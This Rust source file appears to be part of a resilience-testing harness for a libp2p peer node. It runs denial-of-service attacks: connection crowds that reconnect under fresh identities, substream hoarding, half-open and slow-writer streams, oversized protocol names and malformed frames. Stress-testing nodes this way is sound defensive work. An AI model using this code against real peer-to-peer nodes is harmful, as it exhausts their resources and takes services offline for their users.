//! Streams that are left, and frames of strange lengths and speeds.

use std::io;
use std::time::Duration;

use futures::AsyncWriteExt as _;
use libp2p::identity::Keypair;

use super::line::Line;
use super::{Attempt, Tasks};
use crate::Failure;
use crate::case::Attack;

/// Connections, each of a peer id of its own.
const LINES: usize = 32;
/// Substreams of one connection that are held.
const HELD: usize = 200;
/// So many of them a node takes before it knows what they are for; on the others there is this much.
const TAKEN: usize = 128;
const MUCH: usize = 200 << 10;
/// Connections of a crowd: about what a node lets in. They are made while the attack lasts.
const CROWD: usize = 500;
/// Streams that each of a crowd opens first, so that a node takes no more: nobody knows how many that are.
const FIRST: [usize; 4] = [4, 6, 16, 64];
/// Streams of each of a crowd that bring something after them.
const HOARDED: usize = 8;
/// The longest name that multistream-select can announce.
const NAME: usize = (16 << 10) - 1;
/// For a write; and before one that was closed comes again.
const PATIENCE: Duration = Duration::from_millis(500);
const PAUSE: Duration = Duration::from_millis(50);
const PROTOCOLS: [&str; 3] = ["/peer/1.1.0", "/peer/1.1.0/hop", "/peer/1.0.0"];

pub(super) async fn begin(attack: Attack, attempt: &Attempt) -> Result<Tasks, Failure> {
    let mut tasks = Tasks::new();
    if matches!(attack, Attack::Hoard | Attack::LongNames) {
        for first in FIRST.into_iter().cycle().take(CROWD) {
            let attempt = attempt.clone();
            tasks.spawn(async move {
                loop {
                    // One that is closed, or not let in, comes again as somebody else.
                    let line = Line::open(&attempt.source, &Keypair::generate_ed25519()).await;
                    if let Ok(line) = line {
                        let _ = leave(attack, first, &line, &attempt).await;
                    }
                    tokio::time::sleep(PAUSE).await;
                }
            });
        }
        return Ok(tasks);
    }
    for _ in 0..LINES {
        let line = Line::open(&attempt.source, &Keypair::generate_ed25519()).await?;
        let attempt = attempt.clone();
        tasks.spawn(async move {
            // When the connection is gone the attack was repelled.
            let _ = flood(attack, &line, &attempt).await;
        });
    }
    Ok(tasks)
}

/// Leaves as much as it can on one connection.
async fn leave(attack: Attack, first: usize, line: &Line, attempt: &Attempt) -> io::Result<()> {
    let mut held = Vec::new();
    let mut name = b"\x13/multistream/1.0.0\n\xff\x7f".to_vec();
    name.resize(name.len() + NAME - 1, b'/');
    let (few, much): (&[u8], &[u8]) = match attack {
        Attack::Hoard => (b"\x13", &[0; MUCH]),
        _ => (&name, &name),
    };
    for number in 0..first + HOARDED {
        attempt.turn().await;
        let bytes = if number < first { few } else { much };
        let mut stream = line.stream().await?;
        // One that is refused is held all the same, and one that is not read blocks nobody.
        let writing = async {
            let _ = stream.write_all(bytes).await;
            let _ = stream.flush().await;
        };
        let _ = tokio::time::timeout(PATIENCE, writing).await;
        held.push(stream);
    }
    line.closed().await;
    Ok(())
}

async fn flood(attack: Attack, line: &Line, attempt: &Attempt) -> io::Result<()> {
    let mut held = Vec::new();
    for number in 0_usize.. {
        attempt.turn().await;
        let protocol = PROTOCOLS[number % PROTOCOLS.len()];
        match attack {
            Attack::Streams => drop(line.say(protocol, &[]).await?),
            Attack::HalfOpen => {
                let bytes: &[u8] = if held.len() < TAKEN { b"\x13" } else { &[0; MUCH] };
                let mut stream = line.stream().await?;
                // One that is refused is held all the same.
                let _ = stream.write_all(bytes).await;
                let _ = stream.flush().await;
                held.push(stream);
            }
            Attack::SlowWriter => {
                let mut first = (1_u32 << 20).to_be_bytes().to_vec();
                first.resize(20 << 10, 0);
                held.push(line.say("/peer/1.1.0", &first).await?);
            }
            Attack::HugeFrames => {
                drop(line.say(protocol, &[0xff; 16 << 10]).await?);
            }
            _ => {
                let frame: &[u8] = if number % 2 == 0 { &[0, 0, 0, 1, 0] } else { &[0; 4] };
                drop(line.say(protocol, frame).await?);
            }
        }
        if held.len() >= HELD {
            break;
        }
        tokio::task::yield_now().await;
    }
    while line.is_open() {
        for stream in &mut held {
            if attack == Attack::SlowWriter {
                attempt.count();
                // One that the node has closed is of no more use, but does no harm.
                let _ = stream.write_all(&[0]).await;
            }
        }
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
    Ok(())
}
